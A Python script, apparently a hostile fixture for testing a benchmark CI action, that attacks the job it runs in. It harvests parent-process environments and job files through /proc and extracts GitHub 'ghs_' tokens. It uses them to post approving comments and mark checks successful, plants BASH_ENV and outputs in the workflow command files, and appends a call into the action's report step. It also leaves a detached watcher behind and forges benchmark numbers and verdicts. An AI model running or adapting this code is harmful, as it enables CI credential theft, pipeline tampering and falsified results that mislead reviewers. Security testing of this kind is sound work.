"""A hostile benchmark command, for a job that measures. Standard library only, as it runs with the job's own Python.

``once`` tries everything that a command can try while it runs, ``watch`` stays behind and rewrites the report, and
``forge`` is called by a step that ``once`` has changed, after the report was made. What they saw is left in ``$KEEP``.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator

KEEP = Path(os.environ.get("KEEP", "."))
PRAISE = "reviewed and approved by the release team"
COMMAND_FILES = ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE", "GITHUB_STEP_SUMMARY")
MOST_BYTES = 5_000_000
GREEN: dict[str, Any] = {"status": "passed", "reasons": [PRAISE], "cause": None}


def ancestors() -> list[int]:
    """Return the processes above this one, up to the runner."""
    found, process = [], os.getppid()
    while process > 1:
        found.append(process)
        name, _, rest = Path(f"/proc/{process}/stat").read_text().rpartition(") ")
        if name.endswith("(act"):
            break
        process = int(rest.split()[1])
    return found


def environment_of(process: int) -> dict[str, str]:
    """Return the environment that a process was started with."""
    entries = Path(f"/proc/{process}/environ").read_bytes().decode(errors="replace").split("\0")
    return dict(entry.split("=", 1) for entry in entries if "=" in entry)


def files_of(process: int) -> list[Path]:
    """Return the files that the arguments of a process name."""
    arguments = Path(f"/proc/{process}/cmdline").read_bytes().decode(errors="replace").split("\0")
    return [Path(argument) for argument in arguments if argument.startswith("/") and Path(argument).is_file()]


def readable(known: dict[str, str]) -> Iterator[Path]:
    """Yield every file below the folders of the job: the runner's, the workspace, the user's own."""
    roots = {Path(known[name]) for name in ("RUNNER_TEMP", "GITHUB_WORKSPACE", "HOME") if name in known}
    roots |= {Path(known[name]).parent for name in COMMAND_FILES if name in known}
    for root in roots:
        yield from (path for path in root.rglob("*") if path.is_file() and path.stat().st_size < MOST_BYTES)


def look_around(processes: list[int], known: dict[str, str]) -> bytes:
    """Return everything that can be read: environments, arguments, the files these name, the folders of the job."""
    parts = [Path(f"/proc/{process}/{name}").read_bytes() for process in processes for name in ("environ", "cmdline")]
    paths = [path for process in processes for path in files_of(process)]
    return b"\n".join(parts + [path.read_bytes() for path in (*paths, *readable(known))])


def use(token: str, known: dict[str, str]) -> dict[str, int]:
    """Return the status of each request that is made with a token."""
    head = json.loads(Path(known["GITHUB_EVENT_PATH"]).read_text())["pull_request"]["head"]["sha"]
    check = {"name": "Benchverdict (benchmarks)", "head_sha": head, "status": "completed"}
    return {
        "comment": request(token, known, "issues/7/comments", {"body": PRAISE}),
        "check": request(token, known, "check-runs", {**check, "conclusion": "success"}),
        "artifacts": request(token, known, f"actions/runs/{known['GITHUB_RUN_ID']}/artifacts"),
    }


def request(token: str, known: dict[str, str], path: str, body: dict[str, str] | None = None) -> int:
    """Return the status of a request, which is a POST where it has a body."""
    address = f"{known['GITHUB_API_URL']}/repos/octo/bench/{path}"
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json", "User-Agent": "attacker"}
    asked = urllib.request.Request(address, json.dumps(body).encode() if body else None, headers)
    try:
        with urllib.request.urlopen(asked) as reply:
            return int(reply.status)
    except urllib.error.HTTPError as problem:
        return problem.code


def plant(work: Path, known: dict[str, str]) -> None:
    """Write into the files of the steps: a baseline to save, exit codes, variables that run a script of ours."""
    situation = work / "situation.json"
    situation.write_text(situation.read_text().replace('"save_baseline": false', '"save_baseline": true'))
    (work / "report" / "baseline.json.gz").write_bytes(b"forged")
    for verb in ("fetch", "measure", "report", "publish"):
        (work / "exit" / verb).write_text("00\n")
    script = KEEP / "planted.sh"
    script.write_text(f"touch {KEEP}/planted-ran\n")
    for name in COMMAND_FILES:
        with Path(known[name]).open("a") as stream:
            stream.write(f"save-baseline=true\nBASH_ENV={script}\n")


def change_the_action(action: str, work: Path) -> None:
    """Have the step that reports forge it in the end; its files belong to the user that the command runs as."""
    mine = work.parent / "attacker.py"
    shutil.copy(__file__, mine)
    with Path(action, "entrypoint", "steps", "report.sh").open("a") as stream:
        stream.write(f'\n"$host_python" {mine} forge {work}\necho save-baseline=true >>"$GITHUB_OUTPUT"\n')


def once() -> Path:
    """Try everything that a command can try while it runs."""
    processes = ancestors()
    known = {}
    for process in reversed(processes):
        known.update(environment_of(process))
    loot = look_around(processes, known)
    (KEEP / "loot").write_bytes(loot)
    tokens = sorted({found.decode() for found in re.findall(rb"ghs_\w+", loot)})
    tried = {token: use(token, known) for token in tokens}
    (KEEP / "tokens.json").write_text(json.dumps(tried))
    work = Path(known["BENCHVERDICT_WORK"])
    plant(work, known)
    change_the_action(known["GITHUB_ACTION_PATH"], work)
    return work


def stay_behind(work: str) -> None:
    """Start a process in a session of its own that has nothing of this one."""
    arguments = [sys.executable, __file__, "watch", str(work)]
    null = subprocess.DEVNULL
    child = subprocess.Popen(arguments, start_new_session=True, stdin=null, stdout=null, stderr=null)
    with (KEEP / "watchers").open("a") as stream:
        stream.write(f"{child.pid}\n")


def watch(verdict: Path) -> None:
    """Rewrite a report as soon as it is there."""
    end = time.monotonic() + 60
    while time.monotonic() < end:
        if verdict.exists():
            verdict.write_text(json.dumps(json.loads(verdict.read_text()) | {"gate": GREEN}))
        time.sleep(0.01)


def forge(work: Path) -> None:
    """Make the report tell a lie, and its texts praise; keep what was there before, and another lie."""
    for name in ("exit", "report"):
        shutil.copytree(work / name, KEEP / "before" / name)
    path = work / "report" / "verdict.json"
    report = json.loads(path.read_text())
    report["gate"] = GREEN
    for row in report["benchmarks"]:
        row["reason"] = PRAISE
        if "Parse" in row["name"]:
            invent(row)
    write(report, path)
    for row in report["benchmarks"]:
        row["verdict"] = "unchanged"
    write(report, KEEP / "contradicted.json")
    for name in ("comment.md", "summary.md"):
        (work / "report" / name).write_text(PRAISE)
    (work / "report" / "baseline.json.gz").write_bytes(b"forged")
    (work / "exit" / "report").write_text("0\n")


def write(report: dict[str, Any], path: Path) -> None:
    """Write a report whose counts are those of its rows."""
    verdicts = [row["verdict"] for row in report["benchmarks"]]
    report["counts"].update({name: verdicts.count(name) for name in report["counts"]})
    path.write_text(json.dumps(report))


def invent(row: dict[str, Any]) -> None:
    """Write numbers into a row that agree with each other and with its verdict."""
    row["verdict"] = "unchanged"
    row["change"].update(point=0.0, low=-0.001, high=0.001, simultaneous=None, after=row["change"]["before"])
    row["head"] = row["baseline"]


def main(task: str, *arguments: str) -> None:
    """Do one of the tasks."""
    if task == "watch":
        watch(Path(arguments[0]) / "report" / "verdict.json")
    elif task == "forge":
        forge(Path(arguments[0]))
    else:
        marker = KEEP / "work"
        if marker.exists():
            (KEEP / "enough").touch()
        else:
            marker.write_text(str(once()))
        stay_behind(marker.read_text())


if __name__ == "__main__":
    main(*sys.argv[1:])
